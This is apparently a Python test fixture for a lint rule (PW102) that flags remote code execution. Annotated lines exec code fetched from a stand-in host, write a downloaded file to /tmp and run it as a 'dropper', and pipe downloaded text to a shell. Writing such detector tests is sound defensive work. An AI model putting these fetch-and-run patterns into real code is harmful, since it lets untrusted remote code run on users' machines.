import os
import subprocess
import urllib.request

import requests

exec(urllib.request.urlopen("http://x.example/p.py").read())  # want: PW102


def dropper(url):
    body = requests.get(url).content
    with open("/tmp/x", "wb") as f:
        f.write(body)
    os.chmod("/tmp/x", 0o755)  # want: PW102
    subprocess.call(["/tmp/x"])  # want: PW102


def fetch_and_run(url):
    script = requests.get(url).text
    subprocess.run(script, shell=True)  # want: PW102


def ok(url):
    import json

    config = json.loads(requests.get(url).text)
    with open("cache.json", "w") as f:
        f.write(json.dumps(config))
    os.chmod("cache.json", 0o644)
